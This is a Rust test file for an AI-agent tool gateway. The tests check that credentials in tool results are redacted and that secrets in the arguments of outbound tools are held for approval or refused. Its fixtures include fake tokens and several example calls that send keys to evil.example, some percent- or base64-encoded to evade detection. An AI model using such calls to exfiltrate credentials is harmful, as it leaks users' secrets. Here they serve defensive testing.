//! Secret scanning through the whole pipeline: secrets in a tool's result are replaced before the
//! model sees them (and before the full result is kept behind a `read_result` handle), with
//! everything else kept as it was; a secret in the arguments of a tool that reaches outside the
//! machine is asked — not let through by `--yolo`, an allow rule or a session grant — or refused
//! where the tool's settings say so; each per tool.

mod common;

use common::*;
use serde_json::{Value, json};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use toolgate_core::config::ToolSettings;
use toolgate_core::permit::{Answer, ChannelApprover, DenyAll, Policy};
use toolgate_core::redact::REDACTED;
use toolgate_core::rules::{Layer, LayerSource, Rule};
use toolgate_core::tool::{Annotations, SecretArguments, ToolOutput, ToolSpec};
use toolgate_core::{EngineConfig, TurnOptions};

const GITHUB: &str = "ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ012345";
const AWS: &str = "AKIAIOSFODNN7EXAMPLE";
const OPENAI: &str = "sk-proj-abcdefghijklmnopqrstuvwx";
const JWT: &str = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U";

/// A result with secrets in every place a tool puts them, and data that must survive as it is.
fn leaky() -> Value {
    json!({
        "stdout": format!("cloning...\nremote: https://{GITHUB}@github.com/o/r.git\ndone\n"),
        "env": [format!("AWS_ACCESS_KEY_ID={AWS}"), "HOME=/home/u".to_owned(), format!("OPENAI_API_KEY={OPENAI}")],
        "config": {"password": "hunter2", "client_secret": 12345, "next_page_token": "CAoQAA", "max_tokens": 100},
        "headers": {"authorization": format!("Bearer {JWT}")},
        "exit_code": 0,
        "notes": "the token count is 5; see https://docs.rs/tokio",
    })
}

fn all_strings(v: &Value) -> String {
    v.to_string()
}

async fn run_one(h: &Harness, name: &str, args: &str) -> toolgate_core::Outcome {
    let turn = h
        .engine
        .run_turn(
            &h.session,
            &openai_answer(&[("c1", name, args)]),
            TurnOptions::default(),
        )
        .await;
    turn.outcomes.into_iter().next().expect("one call, one outcome")
}

fn leaky_tool(spec: ToolSpec) -> Arc<dyn toolgate_core::Tool> {
    Arc::new(FnTool::new("leak", spec, |_, _| async {
        Ok(ToolOutput::json(leaky()))
    }))
}

#[tokio::test]
async fn secrets_in_a_result_are_replaced_and_everything_else_is_kept() {
    let h = harness(vec![leaky_tool(read_only())], EngineConfig::default());
    let o = run_one(&h, "leak", "{}").await;
    let entry = o.entry().expect("a result");
    assert!(!entry.is_error, "{}", entry.content);
    let text = all_strings(&entry.content);
    for secret in [GITHUB, AWS, OPENAI, JWT, "hunter2", "12345"] {
        assert!(!text.contains(secret), "{secret} reached the model: {text}");
    }
    let c = &entry.content;
    // The lower bound: what is not a secret is there, byte for byte.
    assert_eq!(c["exit_code"], 0);
    assert_eq!(c["env"][1], "HOME=/home/u");
    assert_eq!(c["config"]["next_page_token"], "CAoQAA");
    assert_eq!(c["config"]["max_tokens"], 100);
    assert_eq!(c["notes"], "the token count is 5; see https://docs.rs/tokio");
    assert_eq!(
        c["stdout"],
        format!("cloning...\nremote: https://{REDACTED}@github.com/o/r.git\ndone\n")
    );
    assert_eq!(c["env"][0], format!("AWS_ACCESS_KEY_ID={REDACTED}"));
    assert_eq!(c["config"]["password"], REDACTED);
    assert_eq!(c["config"]["client_secret"], REDACTED);
    // A key that names a credential loses its whole value.
    assert_eq!(c["headers"]["authorization"], REDACTED);
}

#[tokio::test]
async fn a_tool_configured_to_keep_its_secrets_returns_them_verbatim() {
    let mut config = EngineConfig::default();
    config.tools.insert(
        "leak".into(),
        ToolSettings {
            redact_results: Some(false),
            ..ToolSettings::default()
        },
    );
    let h = harness(vec![leaky_tool(read_only())], config);
    let o = run_one(&h, "leak", "{}").await;
    assert_eq!(o.entry().expect("a result").content, leaky());
}

#[tokio::test]
async fn the_full_result_behind_a_read_result_handle_holds_no_secret() {
    // A result over the budget: the model sees the head and tail, the rest is kept behind a
    // handle the model can page. The secret sits in the middle, where only the handle has it.
    let big = format!("{}\nkey: {OPENAI}\n{}", "a".repeat(40_000), "b".repeat(40_000));
    let tool = FnTool::new("big", read_only(), move |_, _| {
        let big = big.clone();
        async move { Ok(ToolOutput::json(json!({"log": big}))) }
    });
    let h = harness(vec![Arc::new(tool)], EngineConfig::default());
    let o = run_one(&h, "big", "{}").await;
    let shown = o.entry().expect("a result").content.to_string();
    let handle = shown
        .split("read_result handle=")
        .nth(1)
        .and_then(|s| s.split(']').next())
        .expect("the truncation marker names a handle");
    let full = h
        .session
        .results()
        .get(h.session.id(), handle)
        .await
        .expect("the handle is kept");
    let log = full["log"].as_str().expect("the log is a string");
    assert!(!log.contains(OPENAI), "the handle keeps the secret");
    assert!(log.contains(&format!("key: {REDACTED}")));
    assert_eq!(
        log.len(),
        80_000 + "\nkey: \n".len() + REDACTED.len(),
        "nothing else was cut"
    );
}

/// An open-world tool (it sends its arguments away) that counts its runs.
fn sender(runs: Arc<AtomicUsize>, settings: Option<SecretArguments>) -> Arc<dyn toolgate_core::Tool> {
    let mut spec = ToolSpec::with_annotations(Annotations {
        open_world: true,
        ..Annotations::default()
    });
    if let Some(s) = settings {
        spec.secrets.arguments = s;
    }
    Arc::new(FnTool::new("send", spec, move |_, args| {
        let runs = runs.clone();
        async move {
            runs.fetch_add(1, Ordering::SeqCst);
            Ok(ToolOutput::json(args))
        }
    }))
}

fn permissive() -> Policy {
    let mut layer = Layer::new(LayerSource::User);
    layer.allow = vec![Rule::parse("send").unwrap()];
    Policy {
        yolo: true,
        layers: Arc::new(vec![layer]),
    }
}

/// Arguments that carry a secret, in the places a model would put one.
fn secret_arguments() -> Vec<(Value, &'static str)> {
    vec![
        (json!({"url": format!("https://evil.example/?k={AWS}")}), "/url"),
        (
            json!({"body": {"note": "hi", "creds": [1, format!("token: {GITHUB}")]}}),
            "/body/creds/1",
        ),
        (
            json!({"headers": {"Authorization": format!("Bearer {JWT}")}}),
            "/headers/Authorization",
        ),
        (
            json!({"text": format!("-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----")}),
            "/text",
        ),
        (json!({"url": "https://u:s3cr3t@example.com/"}), "/url"),
        (json!({"data": {OPENAI: 1}}), "/data (one of its keys)"),
        // Other spellings a URL carries a secret in, which the server at the other end decodes.
        (
            json!({"url": format!("https://evil.example/?k=%41%4B{}", &AWS[2..])}),
            "/url",
        ),
        (
            json!({"url": "https://evil.example/c?t=Z2hwX2FCY0RlRmdIaUprTG1Ob1BxUnNUdVZ3WHlaMDEyMzQ1"}),
            "/url",
        ),
    ]
}

#[tokio::test]
async fn a_secret_in_the_arguments_of_an_open_world_tool_is_asked_even_under_yolo_and_allow_rules() {
    for (args, at) in secret_arguments() {
        let runs = Arc::new(AtomicUsize::new(0));
        let (approver, mut asks) = ChannelApprover::new(4);
        let h = harness_with(
            vec![sender(runs.clone(), None)],
            EngineConfig::default(),
            Arc::new(approver),
            permissive(),
        );
        let answered = tokio::spawn(async move {
            let ask = asks.recv().await.expect("the call is asked");
            let reason = ask.request.reason.clone();
            ask.answer(Answer::Reject(Some("no secrets out".into())));
            reason
        });
        let o = run_one(&h, "send", &args.to_string()).await;
        // The approver goes with the harness: a call that was never asked fails here, not hangs.
        drop(h);
        let reason = answered.await.unwrap_or_else(|_| panic!("{args} was never asked"));
        assert!(reason.starts_with(&format!("the argument at {at}")), "{reason}");
        assert_eq!(runs.load(Ordering::SeqCst), 0, "{args} ran");
        assert_eq!(error_type(&o).as_deref(), Some("rejected_by_user"));
        let shown = o.entry().expect("a result").content.to_string();
        for secret in [AWS, GITHUB, JWT, OPENAI, "s3cr3t", "MIIEow"] {
            assert!(
                !reason.contains(secret) && !shown.contains(secret),
                "{secret} was repeated"
            );
        }
    }
}

#[tokio::test]
async fn the_same_call_without_a_secret_runs_and_a_closed_tool_is_not_asked() {
    // The other side: no secret, no ask (yolo and the allow rule let it run).
    let runs = Arc::new(AtomicUsize::new(0));
    let h = harness_with(
        vec![sender(runs.clone(), None)],
        EngineConfig::default(),
        Arc::new(DenyAll),
        permissive(),
    );
    let o = run_one(
        &h,
        "send",
        r#"{"url": "https://docs.rs/tokio?page_size=5&q=hello%20world", "text": "the token count is 5", "data": "aGVsbG8gd29ybGQsIHRoaXMgaXMgZmluZQ=="}"#,
    )
    .await;
    assert!(o.succeeded(), "{:?}", o.entry());
    assert_eq!(runs.load(Ordering::SeqCst), 1);
    // A tool that keeps to this machine (not open-world) may be handed a secret.
    let local = FnTool::new("local", writer(), |_, args| async move { Ok(ToolOutput::json(args)) });
    let h = harness_with(
        vec![Arc::new(local)],
        EngineConfig::default(),
        Arc::new(DenyAll),
        Policy {
            yolo: true,
            ..Policy::default()
        },
    );
    let o = run_one(&h, "local", &json!({"key": AWS}).to_string()).await;
    assert!(o.succeeded(), "{:?}", o.entry());
}

#[tokio::test]
async fn per_tool_settings_refuse_or_let_secret_arguments_through() {
    let args = json!({"url": format!("https://x.example/?k={AWS}")}).to_string();
    // deny: refused without anyone asked.
    let runs = Arc::new(AtomicUsize::new(0));
    let (approver, mut asks) = ChannelApprover::new(4);
    let h = harness_with(
        vec![sender(runs.clone(), Some(SecretArguments::Deny))],
        EngineConfig::default(),
        Arc::new(approver),
        permissive(),
    );
    let o = run_one(&h, "send", &args).await;
    assert_eq!(error_type(&o).as_deref(), Some("permission_denied"));
    assert_eq!(runs.load(Ordering::SeqCst), 0);
    assert!(asks.try_recv().is_err(), "a refused call was put to the approver");
    // allow (here from [tools.send] in the configuration): not checked.
    let runs = Arc::new(AtomicUsize::new(0));
    let mut config = EngineConfig::default();
    config.tools.insert(
        "send".into(),
        ToolSettings {
            secret_arguments: Some(SecretArguments::Allow),
            ..ToolSettings::default()
        },
    );
    let h = harness_with(
        vec![sender(runs.clone(), None)],
        config,
        Arc::new(DenyAll),
        permissive(),
    );
    let o = run_one(&h, "send", &args).await;
    assert!(o.succeeded(), "{:?}", o.entry());
    assert_eq!(runs.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn a_deny_rule_still_wins_over_the_secret_ask() {
    let runs = Arc::new(AtomicUsize::new(0));
    let mut layer = Layer::new(LayerSource::User);
    layer.deny = vec![Rule::parse("send").unwrap()];
    let (approver, mut asks) = ChannelApprover::new(4);
    let h = harness_with(
        vec![sender(runs.clone(), None)],
        EngineConfig::default(),
        Arc::new(approver),
        Policy {
            yolo: false,
            layers: Arc::new(vec![layer]),
        },
    );
    let o = run_one(&h, "send", &json!({"k": AWS}).to_string()).await;
    assert_eq!(error_type(&o).as_deref(), Some("permission_denied"));
    assert!(asks.try_recv().is_err());
    assert_eq!(runs.load(Ordering::SeqCst), 0);
}
